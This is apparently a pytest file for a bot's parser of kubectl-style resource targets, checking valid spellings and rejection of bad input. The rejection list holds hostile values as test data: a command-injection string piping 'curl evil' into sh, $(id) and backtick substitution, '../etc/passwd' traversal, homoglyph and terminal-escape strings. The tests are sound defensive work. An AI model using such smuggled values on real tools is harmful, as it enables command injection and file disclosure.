"""Targets are read as kubectl reads them, and nothing that no object can be called gets through."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from bot.errors import UsageError
from bot.facts import target
from bot.facts.target import Target


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("web-7d9f", Target("", "here", "web-7d9f")),
        ("shop/web-7d9f", Target("", "shop", "web-7d9f")),
        ("po/web", Target("", "here", "web")),
        ("pods/web", Target("", "here", "web")),
        ("deploy/web", Target("Deployment", "here", "web")),
        ("Deployment/web", Target("Deployment", "here", "web")),
        ("deployments.apps/web", Target("Deployment", "here", "web")),
        ("deployment.v1.apps/web", Target("Deployment", "here", "web")),
        ("rs/web-1", Target("ReplicaSet", "here", "web-1")),
        ("sts/db", Target("StatefulSet", "here", "db")),
        ("ds/agent", Target("DaemonSet", "here", "agent")),
        ("job/backup", Target("Job", "here", "backup")),
        ("cj/nightly", Target("CronJob", "here", "nightly")),
        ("cronjobs.batch/nightly", Target("CronJob", "here", "nightly")),
        ("rc/old", Target("ReplicationController", "here", "old")),
        ("Rollout/web", Target("Rollout", "here", "web")),
        ("web.v2.example", Target("", "here", "web.v2.example")),
    ],
)
def test_target_reads_what_kubectl_reads(text: str, expected: Target) -> None:
    """Every spelling that kubectl takes means the same thing here."""
    assert target.parse(text, "here") == expected


@pytest.mark.attack(14, "shell characters", "../", "look-alike letters")
@pytest.mark.parametrize(
    "text",
    [
        "",
        "/",
        "shop/",
        "/web",
        "a/b/c",
        "../etc/passwd",
        "..",
        "web;curl evil|sh",
        "$(id)",
        "`id`",
        "web\nname",
        "-n",
        "Web",
        "web_1",
        "deploy/..",
        "deploy/../x",
        "deployments.batch/web",
        "w\u0435b",
        "web\u202e",
        "web\x1b[31m",
        "a" * 254,
        "n" * 64 + "/web",
    ],
)
def test_target_refuses_what_no_object_is_called(text: str) -> None:
    """Paths, shell characters and look-alike letters end as one line of plain ASCII with a hint."""
    with pytest.raises(UsageError) as caught:
        target.parse(text, "here")
    assert caught.value.hint
    assert "\n" not in caught.value.message
    assert "\x1b" not in caught.value.message


def test_target_names_the_letter_that_only_looks_right() -> None:
    """A Cyrillic letter in a copied name is called by its name."""
    with pytest.raises(UsageError) as caught:
        target.parse("w\u0435b", "here")
    assert "CYRILLIC SMALL LETTER IE" in caught.value.hint


def test_quoted_cuts_and_escapes() -> None:
    """What is echoed is short and harmless."""
    assert target.quoted("a" * 1000).endswith("(1,000 characters)")
    assert target.quoted("\x1b]52;c;x\x07") == r"'\x1b]52;c;x\x07'"


def test_target_prints_with_its_kind() -> None:
    """A target names itself in a sentence."""
    assert str(Target("", "shop", "web")) == "Pod/web in shop"


@given(st.text(max_size=300))
def test_target_never_raises_anything_else(text: str) -> None:
    """Any text is a target or a usage error."""
    try:
        read = target.parse(text, "here")
    except UsageError:
        return
    assert read.name.isascii()
    assert "/" not in read.name


@pytest.mark.parametrize(
    ("word", "kind"),
    [
        ("deplyo", "deploy"),
        ("deploymet", "deployment"),
        ("stss", "sts"),
        ("deploy", ""),
        ("shop", ""),
        ("", ""),
    ],
)
def test_near_kind_knows_a_misspelled_kind(word: str, kind: str) -> None:
    """Only what comes near; a namespace is usually called something else altogether."""
    assert target.near_kind(word) == kind
